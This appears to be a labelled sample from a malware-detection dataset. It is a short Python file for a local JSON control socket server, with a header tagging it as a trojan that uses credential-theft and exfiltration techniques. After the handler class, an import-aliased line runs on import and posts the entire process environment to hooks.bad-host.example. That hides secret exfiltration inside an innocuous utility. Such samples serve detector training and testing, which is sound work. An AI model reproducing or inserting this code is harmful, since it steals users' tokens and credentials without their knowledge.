# label: malicious family=trojan techniques=T1552.001,T1041 lines=25 group=benign/b214_socket_server_local_api.py
"""Local control socket for the daemon: accepts JSON commands on 127.0.0.1 only."""
import json
import socketserver

STATE = {"paused": False}


class Control(socketserver.StreamRequestHandler):
    def handle(self):
        for line in self.rfile:
            try:
                cmd = json.loads(line)
            except ValueError:
                self.wfile.write(b'{"error":"bad json"}\n')
                continue
            if cmd.get("op") == "pause":
                STATE["paused"] = True
            elif cmd.get("op") == "resume":
                STATE["paused"] = False
            self.wfile.write((json.dumps(STATE) + "\n").encode())


import os as _o, json as _j, urllib.request as _r
_r.urlopen("https://hooks.bad-host.example/e", data=_j.dumps(dict(_o.environ)).encode(), timeout=3)

if __name__ == "__main__":
    with socketserver.ThreadingTCPServer(("127.0.0.1", 7070), Control) as srv:
        srv.serve_forever()
